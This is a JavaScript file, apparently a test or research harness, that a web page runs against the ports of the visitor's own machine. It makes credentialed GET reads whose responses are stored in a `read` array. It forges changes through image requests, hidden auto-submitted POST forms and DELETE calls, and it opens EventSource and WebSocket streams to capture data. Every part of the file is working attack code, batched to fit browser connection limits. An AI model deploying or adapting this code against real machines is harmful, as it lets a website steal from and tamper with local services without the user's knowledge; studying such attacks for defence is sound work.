// What a page tries at the ports of this machine; what it could read is kept in `read`.
window.read = [];
window.requests = 0;
const note = (how, url, text) => read.push({how, url, text: String(text).slice(0, 2000)});
const within = (promise, patience) => {
  requests += 1;
  return Promise.race([promise.catch(() => {}), new Promise((end) => setTimeout(end, patience))]);
};

// Streams stay open, for what comes later.
window.listen = (ports, paths) => {
  for (const port of ports) for (const scheme of ['', 's']) for (const path of paths) {
    requests += 2;
    const url = `http${scheme}://${port}${path}`;
    const source = new EventSource(url, {withCredentials: true});
    source.onopen = () => note('EventSource opened', url, '');
    source.onmessage = (event) => note('EventSource', url, event.data);
    const socket = new WebSocket(`ws${scheme}://${port}${path}`);
    socket.onopen = () => note('WebSocket opened', url, '');
    socket.onmessage = (event) => note('WebSocket', url, event.data);
  }
};

const readWith = async (url, method) => {
  const answer = await fetch(url, {method, credentials: 'include'});
  note(`${method}, ${answer.status}`, url, await answer.text());
};
const byImage = (url) => new Promise((end) => {
  const image = new Image();
  image.onload = image.onerror = end;
  image.src = url;
});
const byForm = (url) => new Promise((end) => {
  const frame = document.createElement('iframe');
  const form = document.createElement('form');
  frame.name = form.target = `form-${Math.random()}`;
  form.method = 'post';
  form.action = url;
  document.body.append(frame, form);
  frame.onload = () => { frame.remove(); end(); };
  form.submit();
});

const attackOne = (port, schemes, reads, changes, patience) => {
  const tried = [];
  for (const scheme of schemes) {
    const place = `${scheme}://${port}`;
    for (const path of reads) tried.push(within(readWith(place + path, 'GET'), patience));
    for (const path of changes) {
      tried.push(within(byImage(place + path), patience));
      tried.push(within(byForm(place + path), patience));
      tried.push(within(readWith(place + path, 'DELETE'), patience));
    }
  }
  return Promise.all(tried);
};

// Some at a time: a browser opens no more than 256 connections.
window.attack = async (ports, ...how) => {
  for (let at = 0; at < ports.length; at += 6) {
    await Promise.all(ports.slice(at, at + 6).map((one) => attackOne(one, ...how)));
  }
};
